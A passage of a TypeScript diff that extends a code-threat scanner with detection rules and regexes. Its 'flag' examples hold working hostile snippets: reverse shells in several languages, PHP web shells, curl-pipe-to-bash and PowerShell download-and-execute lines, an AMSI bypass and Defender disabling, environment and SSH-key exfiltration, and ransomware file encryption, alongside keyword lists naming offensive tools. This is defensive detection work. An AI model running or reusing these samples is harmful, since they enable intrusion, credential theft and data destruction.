+    if (HIDDEN_NAMES.has(name)) { SPLIT_PIECES.lastIndex = 0; return name; }
+    SPLIT_PIECES.lastIndex = at > m.index + m[0].length ? at : SPLIT_PIECES.lastIndex;
+  }
+  SPLIT_PIECES.lastIndex = 0;
+  return null;
+}
+/** A string literal written entirely as \xNN escapes (javascript-obfuscator style string tables). */
+const HEX_LITERAL = /["'](?:\\x[0-9a-f]{2}){2,40}["']/gi;
+const HEX_BYTE = /\\x([0-9a-f]{2})/gi;
+function hexName(t: string): string | null {
+  HEX_LITERAL.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  let n = 0;
+  while (n++ < 64 && (m = HEX_LITERAL.exec(t)) !== null) {
+    const name = m[0].slice(1, -1).replace(HEX_BYTE, (_x, h: string) => String.fromCharCode(parseInt(h, 16))).toLowerCase();
+    if (HIDDEN_NAMES.has(name)) { HEX_LITERAL.lastIndex = 0; return name; }
+  }
+  HEX_LITERAL.lastIndex = 0;
+  return null;
+}
+const DYNAMIC_BUILTIN = /__builtins__["']?\s{0,2}\]?\s{0,2}(?:\.__dict__)?\s{0,2}\[\s{0,2}[a-z_]\w{0,30}\s{0,2}\]|getattr\s{0,4}\(\s{0,4}(?:__import__|__builtins__|builtins)\b/i;
+
+/** HTTP client calls whose first argument is the URL. */
+const HTTP_SINKS: readonly RegExp[] = [
+  /\b(?:requests|httpx|session|urllib3|http|https|axios|got|superagent|needle|request|client|aiohttp|s)\.(?:get|post|put|delete|head|patch|request|urlopen|fetch|getstringasync|getasync)\s{0,4}\(/gi,
+  /\b(?:urlopen|fetch|file_get_contents|fopen|curl_init|getforobject|getforentity|http\.newrequest|uri\.open|open-uri|readfile)\s{0,4}\(|\bnet::http\.get(?:_response)?\s{0,4}\(/gi,
+];
+/** The URL argument is the request value itself, a tainted variable, or a scheme with the host appended. */
+const HOST_FROM_VAR = /^\s{0,4}(?:f|\$)?["'`](?:https?:)?\/\/["'`]?\s{0,4}(?:\+|\.|\$\{|\{)/i;
+function ssrfArg(w: string, names: readonly string[]): boolean {
+  const a = firstArg(w);
+  const lead = a.trimStart();
+  const c = lead.charCodeAt(0);
+  if (c === 34 || c === 39 || c === 96 || ((c === 102 || c === 36) && (lead.charCodeAt(1) === 34 || lead.charCodeAt(1) === 39))) {
+    return HOST_FROM_VAR.test(lead) && (isWebSource(a) || hasTainted(a, names));
+  }
+  if (lead.search(SOURCES_LEAD) === 0 && isWebSource(lead.slice(0, 80))) return true;
+  for (const name of names) if (lead.startsWith(name) && !isIdentChar(lead[name.length])) return true;
+  return false;
+}
+const SOURCES_LEAD = /[\w$]/;
+/** Input from a web request (not the local user's own argv or stdin: a CLI fetching the URL it was given is no SSRF). */
+const LOCAL_SOURCE = /^\s{0,4}(?:sys\.argv|process\.argv|(?:raw_)?input\s{0,2}\(|sys\.stdin|process\.stdin)/i;
+const isWebSource = (s: string): boolean => isSource(s) && !LOCAL_SOURCE.test(s);
+const CLOUD_META_URL = /\b(?:https?:\/\/)(?:169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal|metadata\.goog|\[fd00:ec2::254\])(?::80)?\/(?:latest|computemetadata|metadata|opc|openstack|v1|v2)\b/i;
+const META_CRED_PATH = /security-credentials|service-accounts|identity|token|ram\/|user-data/i;
+
+/** Security tooling switched off from code: AMSI bypass, Defender/EDR/firewall/SELinux/audit disabled, logs cleared. */
+const SECURITY_OFF: readonly RegExp[] = [
+  /amsiinitfailed|amsiutils|amsiscanbuffer|amsiopensession|\bamsi\.dll\b/i,
+  /set-mppreference\s{1,4}(?:-[a-z]{1,40}\s{1,4}\S{1,40}\s{1,4}){0,4}-disable(?:realtimemonitoring|behaviormonitoring|ioavprotection|scriptscanning|intrusionpreventionsystem|blockatfirstseen|archivescanning)\s{1,4}(?:\$true|1)\b|add-mppreference\s{1,4}-exclusion(?:path|process|extension)\b/i,
+  /\bsc(?:\.exe)?\s{1,4}(?:stop|delete|config)\s{1,4}windefend\b|netsh\s{1,4}(?:advfirewall\s{1,4}set\s{1,4}[a-z]{1,20}\s{1,4}state\s{1,4}off|firewall\s{1,4}set\s{1,4}opmode\s{1,4}disable)|\bsetenforce\s{1,4}0\b/i,
+  /systemctl\s{1,4}(?:stop|disable|mask)\s{1,4}(?:auditd|falcon-sensor|falco|apparmor|firewalld|ufw|osqueryd|wazuh-agent|sysmon)\b|\bufw\s{1,4}disable\b|\bauditctl\s{1,4}-[de]\s{0,4}0?\b|\bwevtutil(?:\.exe)?\s{1,4}cl\b|\bclear-eventlog\b|\betweventwrite\b/i,
+];
+
+/** An executable or script fetched from a bare IP address. */
+const RAW_IP_URL = /\b(?:https?|ftp):\/\/(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?::[0-9]{1,5})?\//gi;
+const EXE_TAIL = /^[^\s"'<>`)]{0,200}?\.(?:exe|dll|scr|bat|cmd|ps1|psm1|hta|vbs|js|jar|msi|elf|bin|so|sh|py)(?=["'\s`)?]|$)/i;
+/** Offensive tooling: credential dumpers, AD recon, privilege-escalation scanners. */
+const OFFENSIVE_TOOL = /\b(?:mimikatz|sekurlsa::|lsadump::|rubeus|sharphound|lazagne|winpeas|linpeas|invoke-kerberoast|safetykatz|nishang|powersploit|comsvcs(?:\.dll)?,\s{0,2}minidump|procdump(?:64)?(?:\.exe)?\s{1,4}-ma\s{1,4}lsass)\b/i;
+const RUN_IT = /start-process|invoke-item|\s&\s{0,2}["'$]|os\.startfile|shellexecute|wscript\.shell|subprocess|os\.system|chmod\s{1,4}\+x|\bexec\s{0,4}\(|process\.start|runtime\.getruntime|cmd(?:\.exe)?\s{1,4}\/c/i;
 
 const SHELLISH = /\b(?:sh|bash|cmd|powershell)\b|\/bin\/|socket|subprocess|child_process|system\s{0,2}\(|popen|spawn|eval|exec|curl|wget|\/dev\/tcp|invoke-expression|iex/i;
 
@@ -372,11 +606,23 @@ const rules: ThreatRule<CodeContext>[] = [
     name: 'Code injection: eval/exec of untrusted input',
     primitive: 'ESCALATION',
     score: 9,
-    keywords: ['eval', 'exec', 'compile', 'function', 'vm.run', 'create_function', 'assert', 'settimeout'],
-    detect: (ctx) => (sinkHit(ctx, [EVAL_SINK]) ? 'dynamic code evaluation of request/user input' : null),
+    keywords: ['eval', 'exec', 'compile', 'function', 'vm.run', 'create_function', 'assert', 'settimeout', '$_', 'render_template_string', 'from_string', 'erb.new', 'renderstring', '.template(', '.render(', 'parseexpression', 'include', 'require', 'preg_replace', 'call_user_func', 'array_map', 'array_filter', 'array_walk', 'usort', 'uasort', 'uksort', 'register_shutdown_function', 'register_tick_function', 'forward_static_call', 'iterator_apply', 'ob_start'],
+    detect: (ctx) => {
+      if (sinkHit(ctx, [EVAL_SINK])) return 'dynamic code evaluation of request/user input';
+      const t = ctx.text;
+      if (ctx.lower.includes('$_') && PHP_DYN_CALL.test(t)) return 'PHP variable function called on request input (web shell)';
+      if (ctx.lower.includes('preg_replace') && PREG_E.test(t)) return { detail: 'preg_replace with the /e (evaluate) modifier', score: sourceInStatement(t.slice(t.toLowerCase().indexOf('preg_replace'))) ? 9 : 6 };
+      if (ctx.lower.includes('$_') && sinkHit(ctx, [PHP_CALLBACK])) return 'PHP callback runner invoked with request-controlled code';
+      const lower = ctx.lower;
+      const names = ctx.tainted;
+      if (TEMPLATE_WORDS.some((w) => lower.includes(w)) && probe(t, { a: TEMPLATE_SINK, f: (w) => { const a = firstArg(w); return isSource(a) || hasTainted(a, names); }, label: 'template', window: 240 })) return { detail: 'server-side template compiled from request input (SSTI)', score: 8 };
+      // include/require needs request input in the statement or a tainted variable to matter
+      if ((lower.includes('include') || lower.includes('require')) && (names.length > 0 || lower.includes('$_') || lower.includes('req')) && sinkHit(ctx, [INCLUDE_SINK])) return { detail: 'include/require path taken from request input', score: 8 };
+      return null;
+    },
     examples: {
-      flag: ['result = eval(request.args.get("expr"))', 'exec(input("cmd> "))', 'const fn = new Function(req.body.code); fn();', '<?php eval($_POST["c"]); ?>'],
-      pass: ['const data = JSON.parse(req.body);', 'value = ast.literal_eval(user_input)', 'const m = /^[0-9]+$/.exec(req.query.id);', 'if (node.callee.name === "eval") context.report(node, "no eval");'],
+      flag: ['result = eval(request.args.get("expr"))', 'exec(input("cmd> "))', 'const fn = new Function(req.body.code); fn();', '<?php eval($_POST["c"]); ?>', '<?php $fn = "sys"."tem"; $fn($_POST["z"]); ?>', 'return Template(x).render() if False else render_template_string(request.form["tpl"])', '<?php require_once($_REQUEST["mod"]); ?>', "<?php array_filter([$_POST['p']], 'assert'); call_user_func('system', $_GET['c']); ?>", "<?php echo preg_replace('/x/e', $_GET['r'], 'x'); ?>"],
+      pass: ['const data = JSON.parse(req.body);', 'value = ast.literal_eval(user_input)', 'const m = /^[0-9]+$/.exec(req.query.id);', 'if (node.callee.name === "eval") context.report(node, "no eval");', '# do not eval(request.args["x"]) here\nx = int(request.args["x"])', 'html = render_template_string(PAGE, name=request.args.get("name"))', "const express = require('express');"],
     },
   },
   {
@@ -384,11 +630,14 @@ const rules: ThreatRule<CodeContext>[] = [
     name: 'Command injection: shell call built from untrusted input',
     primitive: 'ESCALATION',
     score: 8,
-    keywords: ['exec', 'spawn', 'system', 'popen', 'subprocess', 'passthru', 'proc_open', 'processbuilder', 'process.start', 'open3', '%x(', '#{', 'command::new'],
-    detect: (ctx) => (sinkHit(ctx, SHELL_SINKS) ? 'shell/process call receives request or user input' : null),
+    keywords: ['exec', 'spawn', 'system', 'popen', 'subprocess', 'passthru', 'proc_open', 'processbuilder', 'process.start', 'open3', '%x(', '#{', 'command::new', '$_'],
+    detect: (ctx) => {
+      if (sinkHit(ctx, SHELL_SINKS, fixedProgram)) return 'shell/process call receives request or user input';
+      return backtickInput(ctx.text);
+    },
     examples: {
-      flag: ['os.system("ping -c 1 " + request.args["host"])', 'exec(`convert ${req.query.file} out.png`)', 'subprocess.run(f"tar xf {sys.argv[1]}", shell=True)', 'Runtime.getRuntime().exec(request.getParameter("cmd"));'],
-      pass: ['subprocess.run(["ls", "-l"], check=True)', 'execFileSync("git", ["status"])', 'const r = pattern.exec(req.query.q);'],
+      flag: ['os.system("ping -c 1 " + request.args["host"])', 'exec(`convert ${req.query.file} out.png`)', 'subprocess.run(f"tar xf {sys.argv[1]}", shell=True)', 'Runtime.getRuntime().exec(request.getParameter("cmd"));', '<?php echo `cat $_GET[f]`; ?>', 'out = `nslookup #{params[:domain]}`', 'subprocess.run(["bash", "-c", request.args["c"]])'],
+      pass: ['subprocess.run(["ls", "-l"], check=True)', 'execFileSync("git", ["status"])', 'const r = pattern.exec(req.query.q);', 'host = request.args["h"]\nsubprocess.run(["ping", "-c", "1", host], timeout=5)'],
     },
   },
   {
@@ -397,10 +646,19 @@ const rules: ThreatRule<CodeContext>[] = [
     primitive: 'ESCALATION',
     score: 4,
     keywords: ['system', 'popen', 'subprocess', 'execsync', 'exec', 'shell_exec', 'passthru'],
-    detect: (ctx) => (DYNAMIC_SHELLS.some((p) => probe(ctx.text, p)) ? 'command string built by interpolation/concatenation (injection-prone)' : null),
+    detect: (ctx) => {
+      const t = ctx.text;
+      if (!DYNAMIC_SHELLS.some((p) => probe(t, p))) return null;
+      // shlex.quote / escapeshellarg on every interpolated value: the string is built safely
+      if (ctx.lower.includes('quote') || ctx.lower.includes('escapeshell') || ctx.lower.includes('shellescape')) {
+        const quoted = quotedNames(t);
+        if (!DYNAMIC_SHELLS.some((p) => probe(t, { a: p.a, f: (w) => p.f!(w) && !allQuoted(w, quoted), label: p.label, window: p.window }))) return null;
+      }
+      return 'command string built by interpolation/concatenation (injection-prone)';
+    },
     examples: {
       flag: ['subprocess.call("rm -rf " + path, shell=True)', 'os.system(f"git clone {repo_url}")', 'execSync(`docker build -t ${tag} .`)'],
-      pass: ['os.system("clear")', 'subprocess.run(["git", "clone", repo_url])', 'execSync("npm run build")'],
+      pass: ['os.system("clear")', 'subprocess.run(["git", "clone", repo_url])', 'execSync("npm run build")', 'q = shlex.quote(name)\nos.system(f"ls -l {q}")'],
     },
   },
   {
@@ -408,7 +666,7 @@ const rules: ThreatRule<CodeContext>[] = [
     name: 'Unsafe deserialisation',
     primitive: 'ESCALATION',
     score: 8,
-    keywords: ['pickle', 'dill', 'marshal', 'shelve', 'joblib', 'yaml.', 'objectinputstream', 'xmldecoder', 'xstream', 'readobject', 'binaryformatter', 'losformatter', 'netdatacontractserializer', 'soapformatter', 'objectstateformatter', 'typenamehandling', 'unserialize'],
+    keywords: ['pickle', 'dill', 'marshal', 'shelve', 'joblib', 'yaml.', 'objectinputstream', 'xmldecoder', 'xstream', 'fromxml', 'readobject', 'binaryformatter', 'losformatter', 'netdatacontractserializer', 'soapformatter', 'objectstateformatter', 'typenamehandling', 'unserialize'],
     detect: (ctx) => deserialization(ctx),
     examples: {
       flag: ['obj = pickle.loads(request.data)', 'cfg = yaml.load(open("c.yml"))', '$u = unserialize($_COOKIE["user"]);', 'ObjectInputStream in = new ObjectInputStream(socket.getInputStream()); in.readObject();'],
@@ -420,15 +678,24 @@ const rules: ThreatRule<CodeContext>[] = [
     name: 'Reverse shell',
     primitive: 'ESCALATION',
     score: 10,
-    keywords: ['/dev/tcp', '/dev/udp', 'nc ', 'ncat', 'nc.exe', 'mkfifo', 'dup2', 'pty.spawn', 'socat', 'tcpclient', 'socket', 'spawn', 'sh -i'],
-    detect: (ctx) => reverseShell(ctx.text),
+    keywords: ['/dev/tcp', '/dev/udp', 'nc ', 'ncat', 'nc.exe', 'mkfifo', 'dup2', 'pty.spawn', 'socat', 'tcpclient', 'socket', 'spawn', 'sh -i', 'fsockopen', 'net.dial', 'create_connection', 'net.connect', 'createconnection'],
+    detect: (ctx) => {
+      const r = reverseShell(ctx.text);
+      if (r !== null) return r;
+      // any language: an outbound connection plus a spawned shell in the same snippet
+      const t = ctx.text.length > 16384 ? ctx.text.slice(0, 16384) : ctx.text;
+      if (OUT_CONNECT.test(t) && SHELL_SPAWN.test(t)) return 'outbound socket plus a spawned shell (reverse shell)';
+      return null;
+    },
     examples: {
       flag: [
         'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4242))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/bash")',
         'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.1.1.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});',
         '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.2",443);$stream = $client.GetStream();',
+        'c, _ := net.Dial("tcp", "198.51.100.9:8443")\ncmd := exec.Command("/bin/bash")\ncmd.Stdin, cmd.Stdout = c, c\ncmd.Run()',
+        's = TCPSocket.open("198.51.100.9", 9001)\nwhile l = s.gets do s.puts IO.popen(l).read end',
       ],
-      pass: ['server = socket.socket(); server.bind(("0.0.0.0", 8000)); server.listen()', 'const child = spawn("node", ["worker.js"]);'],
+      pass: ['server = socket.socket(); server.bind(("0.0.0.0", 8000)); server.listen()', 'const child = spawn("node", ["worker.js"]);', 'conn, err := net.Dial("tcp", "db:5432")\nout, _ := exec.Command("pg_isready").Output()'],
     },
   },
   {
@@ -486,6 +753,7 @@ const rules: ThreatRule<CodeContext>[] = [
       const t = ctx.text;
       const d = decodeExec(t);
       if (d) return d;
+
       if (probe(t, OBFUSCATED_CHARS)) return 'eval/exec of an escaped or encoded string';
       if (CHARCODE_CHAIN.test(t) && CHARCODE_EXEC.test(t)) return { detail: 'character-code chain feeding eval/exec', score: 7 };
       for (const dec of ctx.decoded) {
@@ -518,9 +786,13 @@ const rules: ThreatRule<CodeContext>[] = [
         const isF = head.startsWith('f');
         const line = lineOf(win, 260);
         if (!sqlShaped(head, line.toLowerCase())) continue;
+        // the literal itself and what is joined right after it: `…'); $stmt->execute([$_GET…])` binds, it does not build
+        const q = head.charAt(head.search(QUOTE_CHAR));
+        const close = q === '' ? -1 : line.indexOf(q);
+        const seg = close < 0 ? line : line.slice(0, close + 1 + 16);
         const lead = t.slice(Math.max(0, m.index - 24), m.index).toLowerCase();
         const formatted = SQL_FORMATTER.test(lead) && line.includes('%');
-        if (!formatted && !(isF ? line.includes('{') : SQL_INTERP.some((re) => re.test(line)))) continue;
+        if (!formatted && !(isF ? seg.includes('{') : SQL_INTERP.some((re) => re.test(seg)))) continue;
         found = true;
         const before = t.slice(Math.max(0, m.index - 200), m.index);
         const semi = win.indexOf(';');
@@ -532,7 +804,7 @@ const rules: ThreatRule<CodeContext>[] = [
     },
     examples: {
       flag: ['cursor.execute("SELECT * FROM users WHERE name = \'" + request.args["name"] + "\'")', 'db.query(`SELECT * FROM orders WHERE id = ${req.params.id}`)', '$r = mysqli_query($c, "SELECT * FROM t WHERE id = \'$_GET[id]\'");'],
-      pass: ['cursor.execute("SELECT * FROM users WHERE name = %s", (name,))', 'db.query("SELECT * FROM orders WHERE id = $1", [req.params.id])', 'const q = "SELECT id FROM users";'],
+      pass: ['cursor.execute("SELECT * FROM users WHERE name = %s", (name,))', 'db.query("SELECT * FROM orders WHERE id = $1", [req.params.id])', 'const q = "SELECT id FROM users";', "$s = $db->prepare('SELECT * FROM t WHERE id = ?'); $s->execute([$_POST['id']]);"],
     },
   },
   {
@@ -584,6 +856,11 @@ const rules: ThreatRule<CodeContext>[] = [
       const x = exfiltration(t);
       if (x && (x !== 'whole environment serialised' || net)) return x === 'whole environment serialised' ? 'whole environment serialised and sent over the network' : x;
       if (probe(t, BROWSER_SEND)) return { detail: 'document.cookie / localStorage sent in a network request', score: 8 };
+      // an environment secret posted to a request-capture / webhook / tunnel host
+      if (net && ENV_READ.test(t)) {
+        const sink = EXFIL_HOST.exec(t);
+        if (sink !== null) return { detail: `environment variables sent to ${sink[0].toLowerCase()}`, score: 8 };
+      }
       const cred = CRED_FILE.exec(t);
       if (cred) {
         const what = cred[0].replace(/["'\s)]/g, '');
@@ -595,7 +872,7 @@ const rules: ThreatRule<CodeContext>[] = [
     },
     examples: {
       flag: ['requests.post("https://webhook.site/x", json=dict(os.environ))', 'fetch("https://collect.example/e", { method: "POST", body: JSON.stringify(process.env) })', 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("http://198.51.100.2/", data=key)'],
-      pass: ['const port = process.env.PORT || 3000;', 'db_url = os.environ["DATABASE_URL"]', 'dotenv.config({ path: ".env.example" })'],
+      pass: ['const port = process.env.PORT || 3000;', 'db_url = os.environ["DATABASE_URL"]', 'dotenv.config({ path: ".env.example" })', 'requests.post(os.environ["SLACK_WEBHOOK"], json={"text": "deploy ok"})'],
     },
   },
   {
@@ -603,9 +880,10 @@ const rules: ThreatRule<CodeContext>[] = [
     name: 'Destructive file-system operation on a root or home directory',
     primitive: 'DESTRUCTION',
     score: 9,
-    keywords: ['rmtree', 'rmsync', 'rmdirsync', 'rimraf', 'rm_rf', 'rm_r', 'remove_dir_all', 'removeall', 'directory.delete', 'fs.rm', 'deletedirectory', 'forcedelete', 'deletequietly', 'rm ', 'format ', 'mkfs', 'dd if=', 'cipher', 'vssadmin', 'shadowcopy', 'bcdedit', 'os.walk'],
+    keywords: ['rmtree', 'rmsync', 'rmdirsync', 'rimraf', 'rm_rf', 'rm_r', 'remove_dir_all', 'removeall', 'directory.delete', 'fs.rm', 'deletedirectory', 'forcedelete', 'deletequietly', 'rm ', 'format ', 'mkfs', 'dd if=', 'cipher', 'vssadmin', 'shadowcopy', 'bcdedit', 'os.walk', 'ransom', 'bitcoin', 'btc', 'your files'],
     detect: (ctx) => {
       const t = ctx.text;
+      if (RANSOM_NOTE.test(t) && ENCRYPT_FILES.test(t) && REMOVE_ORIGINAL.test(t)) return { detail: 'encrypts files, deletes the originals and leaves a ransom note', score: 10 };
       for (let i = 0; i < DESTRUCT.length; i++) {
         const m = DESTRUCT[i]!.exec(t);
         if (m === null) continue;
@@ -615,8 +893,8 @@ const rules: ThreatRule<CodeContext>[] = [
       return null;
     },
     examples: {
-      flag: ['shutil.rmtree("/")', 'fs.rmSync("/", { recursive: true, force: true })', 'os.system("rm -rf / --no-preserve-root")', 'shutil.rmtree(os.path.expanduser("~"))'],
-      pass: ['shutil.rmtree("build")', 'fs.rmSync("dist", { recursive: true, force: true })', 'execSync("rm -rf ./node_modules")', 'rimraf("/tmp/cache-" + id)'],
+      flag: ['for root, d, fs in os.walk(Path.home()):\n    for f in fs:\n        p = os.path.join(root, f); lock(p); os.remove(p)', 'data = fernet(key).encrypt(open(p,"rb").read()); open(p+".enc","wb").write(data); os.remove(p)\nnote = "Your files are encrypted. Pay 0.2 BTC"', 'shutil.rmtree("/")', 'fs.rmSync("/", { recursive: true, force: true })', 'os.system("rm -rf / --no-preserve-root")', 'shutil.rmtree(os.path.expanduser("~"))'],
+      pass: ['for root, dirs, files in os.walk(Path.home() / "projects"):\n    print(root)', 'token = fernet.encrypt(secret)  # store encrypted, btc wallet label\ncache.set(k, token)', 'shutil.rmtree("build")', 'fs.rmSync("dist", { recursive: true, force: true })', 'execSync("rm -rf ./node_modules")', 'rimraf("/tmp/cache-" + id)'],
     },
   },
   {
@@ -643,6 +921,8 @@ const rules: ThreatRule<CodeContext>[] = [
     detect: (ctx) => {
       const t = ctx.text;
       if (REMOTE_EXECS.some((p) => probe(t, p))) return 'code fetched over the network is evaluated';
+      const fetched = taintedNames(t, isFetch);
+      if (fetched.length > 0 && probe(t, { a: EXEC_NAMED, f: (w) => { const a = firstArg(w).trim(); return fetched.some((n) => a === n || a === `$${n}` || a.startsWith(`${n}.`) || a.startsWith(`$${n}.`)); }, label: 'downloaded variable executed', window: 120 })) return 'code downloaded into a variable is then evaluated';
       const d = downloadExec(t);
       if (d) {
         if (WELL_KNOWN_INSTALLER.test(t) && exfilHost(t) === null) return { detail: `${d} from a well-known vendor installer`, score: 4 };
@@ -651,8 +931,8 @@ const rules: ThreatRule<CodeContext>[] = [
       return null;
     },
     examples: {
-      flag: ['exec(requests.get("http://203.0.113.9/p.py").text)', 'eval(await (await fetch(url)).text())', 'os.system("curl -s http://198.51.100.7/x.sh | bash")', 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.3/a.ps1")'],
-      pass: ['const res = await fetch(url); const data = await res.json();', 'r = requests.get(url); r.raise_for_status()', 'subprocess.run(["curl", "-o", "out.tar.gz", url])'],
+      flag: ['src = requests.get(STAGE2).text\nexec(src)', '$p = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $p', 'exec(requests.get("http://203.0.113.9/p.py").text)', 'eval(await (await fetch(url)).text())', 'os.system("curl -s http://198.51.100.7/x.sh | bash")', 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.3/a.ps1")'],
+      pass: ['body = requests.get(url).text\nprint(len(body))\nexec_time = time.time()', 'const res = await fetch(url); const data = await res.json();', 'r = requests.get(url); r.raise_for_status()', 'subprocess.run(["curl", "-o", "out.tar.gz", url])'],
     },
   },
   {
@@ -673,6 +953,94 @@ const rules: ThreatRule<CodeContext>[] = [
       pass: ['with open("README.md", "a") as f:\n    f.write("## Usage")', 'const cron = require("node-cron"); cron.schedule("* * * * *", job);'],
     },
   },
+  {
+    id: 'G17',
+    name: 'Dangerous function name assembled from string pieces',
+    primitive: 'MANIPULATION',
+    score: 8,
+    keywords: ["'+'", "' + '", '"+"', '" + "', "'.'", "' . '", '"."', '" . "', "','", '","', '__builtins__', 'getattr', "'\\x", '"\\x'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      const hidden = splitName(t);
+      if (hidden !== null) return `"${hidden}" assembled from string pieces to hide it`;
+      const hex = ctx.lower.includes('\\x') ? hexName(t) : null;
+      if (hex !== null) return `"${hex}" written as hex escapes to hide it`;
+      const dyn = DYNAMIC_BUILTIN.exec(t);
+      if (dyn !== null) return { detail: `builtin or module function reached by computed name (${dyn[0].slice(0, 40)})`, score: 5 };
+      return null;
+    },
+    examples: {
+      flag: ["getattr(__import__('o'+'s'), 'po'+'pen')('id')", "$k = 'sys' . 'tem'; $k('id');", "window[['e','v','a','l'].join('')](x)", "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils')", "fn = globals()['__builtins__'].__dict__[name]", "var t = ['\\x65\\x76\\x61\\x6c']; window[t[0]](s);"],
+      pass: ['const label = "Sys" + "tem settings";', "langs = ['en', 'de', 'fr']", 'url = "https://" + "example.com" + "/api"', "path = 'src' + '/' + 'main.py'", 'value = getattr(settings, "DEBUG", False)'],
+    },
+  },
+  {
+    id: 'G18',
+    name: 'Server-side request forgery: request to a user-supplied or metadata URL',
+    primitive: 'EXFILTRATION',
+    score: 5,
+    keywords: ['requests.', 'httpx.', 'urllib', 'urlopen', 'axios', 'fetch(', 'fetch (', 'http.get', 'https.get', 'http.post', 'https.request', 'http.request', 'got(', 'superagent', 'needle.', 'aiohttp', 'session.get', 'session.post', 'client.get', 'client.post', 'file_get_contents', 'fopen', 'curl_init', 'getforobject', 'getforentity', 'newrequest', 'uri.open', 'open-uri', 'readfile', 'net::http', 'getasync', 'getstringasync', '169.254.', 'metadata.google', 'metadata.goog', '100.100.100.200', 'fd00:ec2'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      const meta = CLOUD_META_URL.exec(t);
+      // web-request taint is recomputed only once a candidate call turns up
+      let names: readonly string[] | undefined;
+      const webNames = (): readonly string[] => (names ??= ctx.tainted.length === 0 ? ctx.tainted : taintedNames(t, isWebSource));
+      let call = false;
+      for (const re of HTTP_SINKS) {
+        const r = probeAnchor(t, { a: re, f: (w) => ssrfArg(w, webNames()), label: 'ssrf', window: 240 });
+        if (r === HIT) return 'HTTP request to a URL taken from request/user input';
+        if (r === ANCHOR) call = true;
+      }
+      if (meta !== null && call) {
+        const tail = t.slice(meta.index + meta[0].length, meta.index + meta[0].length + 120);
+        return { detail: `code fetches the cloud metadata service ${meta[0].slice(0, 60)}`, score: META_CRED_PATH.test(tail) ? 7 : 5 };
+      }
+      return null;
+    },
+    examples: {
+      flag: ['target = request.args.get("u")\nreturn requests.get(target, timeout=5).content', 'const r = await fetch(req.query.src);', '$img = file_get_contents($_GET["image"]);', 'requests.get("http://" + request.args["host"] + "/status")', 'tok = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/web").text'],
+      pass: ['r = requests.get(f"https://api.github.com/users/{request.args[\'u\']}", timeout=5)', 'const r = await fetch(`/api/search?q=${encodeURIComponent(req.query.q)}`);', 'BLOCKED = ["http://169.254.169.254/latest/meta-data/"]\nif url in BLOCKED: abort(400)', 'data = requests.get(API_URL, params={"q": request.args["q"]}).json()'],
+    },
+  },
+  {
+    id: 'G19',
+    name: 'Security tooling disabled (AMSI bypass, antivirus, firewall, audit logs)',
+    primitive: 'MANIPULATION',
+    score: 8,
+    keywords: ['amsi', 'mppreference', 'windefend', 'advfirewall', 'opmode', 'setenforce', 'auditd', 'falco', 'apparmor', 'firewalld', 'ufw', 'osqueryd', 'wazuh', 'sysmon', 'auditctl', 'wevtutil', 'clear-eventlog', 'etweventwrite'],
+    detect: (ctx) => {
+      for (const re of SECURITY_OFF) {
+        const m = re.exec(ctx.text);
+        if (m !== null) return `turns off a security control (${m[0].replace(/\s+/g, ' ').slice(0, 60)})`;
+      }
+      return null;
+    },
+    examples: {
+      flag: ["[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", 'Set-MpPreference -DisableRealtimeMonitoring $true', 'os.system("netsh advfirewall set allprofiles state off")', 'os.system("setenforce 0 && systemctl stop auditd")', 'Add-MpPreference -ExclusionPath "C:\\Users\\Public"'],
+      pass: ['Set-MpPreference -DisableRealtimeMonitoring $false', 'Get-MpPreference | Select-Object ExclusionPath', 'subprocess.run(["ufw", "allow", "443/tcp"])', '# AMSI scans scripts before they run; see docs\nWrite-Host "ok"'],
+    },
+  },
+  {
+    id: 'G20',
+    name: 'Executable fetched from a bare IP or offensive tool staged',
+    primitive: 'ESCALATION',
+    score: 6,
+    keywords: ['mimikatz', 'sekurlsa', 'lsadump', 'rubeus', 'sharphound', 'lazagne', 'winpeas', 'linpeas', 'kerberoast', 'safetykatz', 'nishang', 'powersploit', 'minidump', 'lsass', '.exe', '.dll', '.scr', '.bat', '.ps1', '.hta', '.vbs', '.msi', '.elf', '.bin', '.sh', '.jar'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      const tool = OFFENSIVE_TOOL.exec(t);
+      if (tool !== null) return { detail: `offensive tool ${tool[0].toLowerCase()} referenced`, score: RUN_IT.test(t) ? 8 : 6 };
+      if (probe(t, { a: RAW_IP_URL, t: EXE_TAIL, label: 'raw-ip executable', window: 220 })) {
+        return RUN_IT.test(t) ? { detail: 'executable downloaded from a bare IP address and run', score: 8 } : 'executable downloaded from a bare IP address';
+      }
+      return null;
+    },
+    examples: {
+      flag: ['Invoke-WebRequest http://198.51.100.20/x/svc.exe -OutFile $p; Start-Process $p', 'urllib.request.urlretrieve("http://203.0.113.8:8000/agent.elf", "/tmp/a")\nos.system("chmod +x /tmp/a && /tmp/a")', 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"'],
+      pass: ['Invoke-WebRequest https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_windows_amd64.msi -OutFile gh.msi', 'r = requests.get("http://10.0.0.5:8080/api/status")', '# run ./build.sh to package the app'],
+    },
+  },
 ];
 
 const codeAnalyzer: Analyzer<CodeContext> = {
@@ -685,7 +1053,9 @@ const codeAnalyzer: Analyzer<CodeContext> = {
     CONCAT_AFTER_STRING, FORMAT_CALL, VAR_THEN_PLUS, VAR_FIRST_ARG, SHELL_TRUE, REMOTE_FETCH,
